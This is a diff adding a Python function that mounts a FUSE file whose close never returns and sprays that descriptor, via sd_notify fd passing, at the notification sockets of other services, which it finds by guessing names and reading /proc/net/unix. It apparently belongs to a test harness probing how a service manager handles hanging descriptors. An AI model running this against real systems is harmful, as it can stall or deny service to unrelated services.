@@ -219,6 +219,34 @@ def flush(text):
     rest()
 
 
+def foreign(service):
+    """Descriptors whose close(2) never returns, to the socket of another service, by all that is known about it."""
+    socket.setdefaulttimeout(SEND_TIMEOUT)
+    fuse.mount_as_user(fuse.FLUSH, MNT, DEVICE)
+    sd.say("READY=1")
+    begin()
+    own = os.environ["NOTIFY_SOCKET"]
+    folder = os.path.dirname(own) + "/"
+    file = os.open(FILE, os.O_RDWR)
+    sd.show("attacking")
+    for _ in range(50):
+        guesses = {f"{folder}{service}{end}" for end in ["", ".0", "-0", *(f"-{run}" for run in range(1, 50))]}
+        with open("/proc/net/unix") as sockets:
+            guesses.update(line.split()[-1] for line in sockets if folder in line)
+        try:
+            guesses.update(folder + name for name in os.listdir(folder))
+        except PermissionError:
+            pass
+        for path in guesses - {own}:
+            try:
+                sd.say("X=1", [file], path)
+                sd.show("sent to", path)
+            except OSError:
+                pass
+        time.sleep(0.02)
+    rest()
+
+
 def release(text):
     """A descriptor of a file whose last close(2) is never answered."""
     socket.setdefaulttimeout(SEND_TIMEOUT)
